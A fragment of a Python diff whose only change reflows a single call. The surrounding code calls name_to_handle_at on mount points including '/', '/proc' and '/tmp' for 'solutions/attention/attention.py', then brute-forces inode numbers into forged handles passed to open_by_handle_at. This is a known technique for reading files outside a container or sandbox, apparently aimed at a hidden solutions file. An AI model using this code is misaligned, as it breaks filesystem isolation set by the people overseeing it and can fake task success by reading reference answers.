@@ -14,7 +14,9 @@ for place in ("/", "/proc", "/tmp", str(ROOT), "/usr/lib"):
     mount = os.open(place, os.O_PATH)
     handle = ctypes.create_string_buffer(bytes([128, 0, 0, 0]) + bytes(132))
     number = ctypes.c_int()
-    LIBC.name_to_handle_at(mount, b"solutions/attention/attention.py", handle, ctypes.byref(number), 0)
+    LIBC.name_to_handle_at(
+        mount, b"solutions/attention/attention.py", handle, ctypes.byref(number), 0
+    )
     fd = LIBC.open_by_handle_at(mount, handle, 0)
     for inode in range(1, 50):
         guess = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(8, "little")
